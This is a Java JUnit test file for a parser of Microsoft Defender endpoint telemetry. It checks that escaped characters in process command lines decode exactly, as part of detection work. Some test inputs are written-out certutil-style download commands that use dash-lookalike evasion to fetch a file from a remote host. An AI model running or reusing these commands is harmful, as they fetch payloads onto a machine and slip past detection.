package dev.bazahunt.telemetry;

import static dev.bazahunt.telemetry.DefenderTelemetrySamples.*;
import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** Command lines are where attackers hide things; they must arrive exactly as the endpoint saw them. */
class DefenderRecordParserTextTest {

    private static String commandLineParsedFrom(String jsonStringLiteral) {
        String row = withColumn(FILE_ROW, "InitiatingProcessCommandLine", jsonStringLiteral);
        return CollectingSink.parse(batch(envelope("DeviceFileEvents", row))).onlyFileEvent().initiatingProcessCommandLine;
    }

    @Test
    void escapedEnDashIsDecodedSoDashEvasionStaysVisible() {
        assertThat(commandLineParsedFrom("\"qv7t.exe \\u2013urlcache \\u2013split \\u2013f http://k3vd9xq0wz.top/a.php\""))
                .isEqualTo("qv7t.exe –urlcache –split –f http://k3vd9xq0wz.top/a.php");
    }

    @Test
    void escapedBackslashesAndQuotesInWindowsPathsAreDecoded() {
        assertThat(commandLineParsedFrom(
                "\"\\\"C:\\\\Program Files\\\\Microsoft Office\\\\root\\\\Office16\\\\EXCEL.EXE\\\" /dde\""))
                .isEqualTo("\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" /dde");
    }

    @Test
    void escapedSurrogatePairBecomesOneNonBmpCharacter() {
        String parsed = commandLineParsedFrom("\"cmd.exe /c echo \\ud83d\\ude80 > C:\\\\Users\\\\Public\\\\x.txt\"");
        assertThat(parsed).isEqualTo("cmd.exe /c echo \uD83D\uDE80 > C:\\Users\\Public\\x.txt");
        assertThat(parsed.codePoints().filter(Character::isSupplementaryCodePoint).count()).isEqualTo(1);
    }

    @Test
    void rawUtf8NonAsciiIsDecoded() {
        assertThat(commandLineParsedFrom("\"certutil.exe −urlcache ‐f http://exämple.test/😀.php C:\\\\Users\\\\Jürgen\\\\a.dll\""))
                .isEqualTo("certutil.exe −urlcache ‐f http://exämple.test/😀.php C:\\Users\\Jürgen\\a.dll");
    }

    @Test
    void controlCharacterEscapesAreDecoded() {
        assertThat(commandLineParsedFrom("\"a\\tb\\r\\nc\\u0000d\\/e\"")).isEqualTo("a\tb\r\nc\u0000d/e");
    }

    @Test
    void excerptOfABadRecordKeepsNonAsciiText() {
        String row = withColumn(withColumn(FILE_ROW, "FolderPath", "\"C:\\\\Users\\\\Jürgen\\\\😀.dll\""),
                "ReportId", "\"n/a\"");
        String record = envelope("DeviceFileEvents", row);
        DeadLetter letter = CollectingSink.parse(batch(envelope("DeviceProcessEvents", PROCESS_ROW), record)).deadLetters.get(0);
        assertThat(letter.excerpt).isEqualTo(DeadLetter.bounded(record));
    }
}
